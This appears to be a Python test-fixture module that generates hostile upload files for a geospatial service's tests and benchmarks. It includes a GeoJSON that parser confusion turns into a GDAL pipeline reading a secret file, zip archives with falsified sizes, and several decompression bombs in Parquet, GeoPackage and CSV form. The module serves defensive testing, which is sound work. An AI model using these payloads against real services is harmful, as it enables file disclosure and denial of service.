"""Hostile upload files, made on demand (never committed): each function returns the
bytes of one attack of issue 18, sized by its arguments, for the tests, the cage tests,
``scripts/bench_hostile.py``, ``scripts/bench_inputs.py`` and ``scripts/attack_uploads.py``
(here, not in ``tests/``, so that a benchmark does not depend on the test suite).

===========================  =====================================================
Maker                        Attack
===========================  =====================================================
:func:`gdalg_json`           a FeatureCollection to Python, a GDALG pipeline to GDAL
:func:`zip_lying_sizes`      a zipped shapefile whose .dbf decodes beyond its size
:func:`shapefile_zip`        an honest zipped shapefile with a wide .dbf
:func:`gpkg_zeroblob_view`   a GeoPackage whose layer is a view of one long line
:func:`gpkg_points_view`     a GeoPackage whose layer is a view of many points
:func:`parquet_long_labels`  GeoParquet repeating one long label (a dictionary)
:func:`parquet_bomb`         GeoParquet of millions of identical points (a dictionary)
:func:`wide_csv`             a header-only CSV of many columns
:func:`categories_csv`       a CSV of points in as many categories as rows
===========================  =====================================================
"""

from __future__ import annotations

import io
import json
import sqlite3
import struct
import tempfile
import zipfile
from pathlib import Path

import numpy as np

__all__ = [
    "categories_csv",
    "gdalg_json",
    "gpkg_points_view",
    "gpkg_zeroblob_view",
    "parquet_long_labels",
    "shapefile_zip",
    "wide_csv",
    "zip_lying_sizes",
]


def gdalg_json(secret: Path) -> bytes:
    """GeoJSON whose key ``type\\u0000`` json-c reads as ``type``: to GDAL a GDALG
    pipeline that reads the CSV file ``secret`` through ``--sql=@FILE``."""
    pipeline = (
        f"gdal vector pipeline ! read {secret} ! sql --sql=@{secret} "
        "! write --output-format=stream streamed"
    )
    text = (
        '{"type":"FeatureCollection","features":[],"type\\u0000":"gdal_streamed_alg",'
        f'"command_line":{json.dumps(pipeline)}}}'
    )
    return text.encode()


def _dbf(records: int, fields: int, width: int, fill: bytes = b"x") -> bytes:
    """A dBASE III table of ``records`` rows of ``fields`` text fields ``width`` wide."""
    header_len = 32 + 32 * fields + 1
    record_len = 1 + fields * width
    head = struct.pack("<BBBBIHH20x", 3, 126, 12, 7, records, header_len, record_len)
    descriptors = b"".join(
        struct.pack("<11sc4xBB14x", f"F{i}".encode(), b"C", width, 0) for i in range(fields)
    )
    record = b" " + fill * (fields * width)
    return head + descriptors + b"\r" + record * records + b"\x1a"


def _shp_points(n: int, *, spread: bool = True) -> tuple[bytes, bytes]:
    """The .shp and .shx of ``n`` points around Delft (all at one place unless ``spread``,
    which zips to almost nothing)."""
    rng = np.random.default_rng(0)
    xy = np.column_stack([rng.uniform(4.3, 4.4, n), rng.uniform(51.9, 52.1, n)])
    if not spread:
        xy[:] = (4.35, 52.0)
    bbox = struct.pack("<4d", *xy.min(axis=0), *xy.max(axis=0))

    def header(length_bytes: int) -> bytes:
        return (
            struct.pack(">7i", 9994, 0, 0, 0, 0, 0, length_bytes // 2)
            + struct.pack("<2i", 1000, 1)
            + bbox
            + b"\x00" * 32
        )

    records = np.zeros(n, dtype=[("no", ">i4"), ("len", ">i4"), ("kind", "<i4"),
                                 ("x", "<f8"), ("y", "<f8")])  # fmt: skip
    records["no"], records["len"], records["kind"] = np.arange(1, n + 1), 10, 1
    records["x"], records["y"] = xy[:, 0], xy[:, 1]
    index = np.zeros(n, dtype=[("offset", ">i4"), ("len", ">i4")])
    index["offset"], index["len"] = 50 + 14 * np.arange(n), 10
    return header(100 + 28 * n) + records.tobytes(), header(100 + 8 * n) + index.tobytes()


_PRJ = b'GEOGCS["WGS 84",DATUM["WGS_1984",SPHEROID["WGS 84",6378137,298.257223563]],PRIMEM["Greenwich",0],UNIT["degree",0.0174532925199433]]'  # noqa: E501


def shapefile_zip(records: int, *, fields: int = 1, width: int = 10) -> bytes:
    """A zipped (deflated) shapefile of ``records`` points whose .dbf holds ``fields`` text
    fields ``width`` wide, each cell filled."""
    shp, shx = _shp_points(records)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("p.shp", shp)
        archive.writestr("p.shx", shx)
        archive.writestr("p.dbf", _dbf(records, fields, width))
        archive.writestr("p.prj", _PRJ)
    return buffer.getvalue()


def zip_lying_sizes(*, declared: int, real: int) -> bytes:
    """A zipped shapefile whose .dbf entry declares ``declared`` bytes (in its local header
    and the central directory) while its deflated stream decodes to ``real`` bytes (a
    dBASE table of that size, of 250-character cells, one record a point)."""
    width = 250
    fields = 40
    records = max(1, (real - 33 - 32 * fields) // (1 + fields * width))
    shp, shx = _shp_points(records, spread=False)
    dbf = _dbf(records, fields, width)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("p.shp", shp)
        archive.writestr("p.shx", shx)
        archive.writestr("p.dbf", dbf)
        archive.writestr("p.prj", _PRJ)
        info = archive.getinfo("p.dbf")
    data = bytearray(buffer.getvalue())
    # the uncompressed size: at 22 in the local header, at 24 in the central directory
    struct.pack_into("<I", data, info.header_offset + 22, declared)
    (entry,) = struct.unpack_from("<I", data, len(data) - 22 + 16)  # the directory's offset
    while data[entry : entry + 4] == b"PK\x01\x02":
        name_len, extra_len, comment_len = struct.unpack_from("<3H", data, entry + 28)
        if data[entry + 46 : entry + 46 + name_len] == b"p.dbf":
            struct.pack_into("<I", data, entry + 24, declared)
        entry += 46 + name_len + extra_len + comment_len
    return bytes(data)


def _gpkg_with_view(select: str) -> bytes:
    """A GeoPackage of one point layer, then made the view ``select`` (columns fid, geom)."""
    import geopandas as gpd

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "v.gpkg"
        gpd.GeoDataFrame(geometry=gpd.points_from_xy([4.3], [52.0]), crs=4326).to_file(
            path, layer="pts", driver="GPKG"
        )
        with sqlite3.connect(path) as db:
            db.execute(f"CREATE VIEW pv AS {select}")
            db.execute("UPDATE gpkg_contents SET table_name = 'pv', identifier = 'pv'")
            db.execute("UPDATE gpkg_geometry_columns SET table_name = 'pv'")
            db.execute("DELETE FROM gpkg_ogr_contents")
        db.close()
        return path.read_bytes()


_GP_HEADER = "47500001E6100000"  # 'GP', version 0, no envelope, little-endian, SRS 4326


def gpkg_zeroblob_view(vertices: int) -> bytes:
    """A GeoPackage of a few KB whose layer is a view making one LineString of
    ``vertices`` zero vertices (``zeroblob``): 16 bytes a vertex once decoded."""
    count = struct.pack("<I", vertices).hex()
    return _gpkg_with_view(
        f"SELECT 1 AS fid, X'{_GP_HEADER}0102000000{count}' || zeroblob({16 * vertices}) AS geom"
    )


def gpkg_points_view(n: int) -> bytes:
    """A GeoPackage of a few KB whose layer is a view counting ``n`` points (a recursive
    query)."""
    point = struct.pack("<BIdd", 1, 1, 4.3, 52.0).hex()
    return _gpkg_with_view(
        f"WITH RECURSIVE c(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM c WHERE i < {n}) "
        f"SELECT i AS fid, X'{_GP_HEADER}{point}' AS geom FROM c"
    )


def parquet_long_labels(rows: int, *, chars: int) -> bytes:
    """GeoParquet of ``rows`` points whose ``name`` is one label of ``chars`` characters,
    dictionary-encoded: a few MB that decode to ``rows * chars`` bytes."""
    import pyarrow as pa
    import pyarrow.parquet as pq
    import shapely

    rng = np.random.default_rng(0)
    points = shapely.points(rng.uniform(4.3, 4.4, rows), rng.uniform(51.9, 52.1, rows))
    name = pa.DictionaryArray.from_arrays(pa.array(np.zeros(rows, np.int32)), ["n" * chars])
    geo = {
        "version": "1.0.0",
        "primary_column": "geometry",
        "columns": {"geometry": {"encoding": "WKB", "geometry_types": ["Point"]}},
    }
    table = pa.table({"name": name, "geometry": shapely.to_wkb(points)})
    buffer = io.BytesIO()
    pq.write_table(table.replace_schema_metadata({"geo": json.dumps(geo)}), buffer)
    return buffer.getvalue()


def wide_csv(columns: int) -> bytes:
    """A header-only CSV of ``columns`` short names and no coordinate column."""
    return ",".join(f"c{i}" for i in range(columns)).encode() + b"\n"


def categories_csv(rows: int) -> bytes:
    """A CSV of ``rows`` points around Delft, each in its own category ``cat``."""
    rng = np.random.default_rng(0)
    lat, lon = rng.uniform(51.9, 52.1, rows), rng.uniform(4.3, 4.4, rows)
    lines = [f"{a:.6f},{o:.6f},c{i}" for i, (a, o) in enumerate(zip(lat, lon, strict=True))]
    return ("lat,lon,cat\n" + "\n".join(lines) + "\n").encode()


def parquet_bomb(n: int) -> bytes:
    """GeoParquet of ``n`` identical points: dictionary-encoded, a few KB per million."""
    import pyarrow as pa
    import pyarrow.parquet as pq
    import shapely

    wkb = pa.array([shapely.Point(4.3, 52.0).wkb])
    geometry = pa.DictionaryArray.from_arrays(pa.array(np.zeros(n, dtype=np.int8)), wkb)
    geo = {
        "version": "1.0.0",
        "primary_column": "geometry",
        "columns": {"geometry": {"encoding": "WKB", "geometry_types": ["Point"]}},
    }
    table = pa.table({"geometry": geometry}).replace_schema_metadata({"geo": json.dumps(geo)})
    buffer = io.BytesIO()
    pq.write_table(table, buffer, compression="zstd")
    return buffer.getvalue()
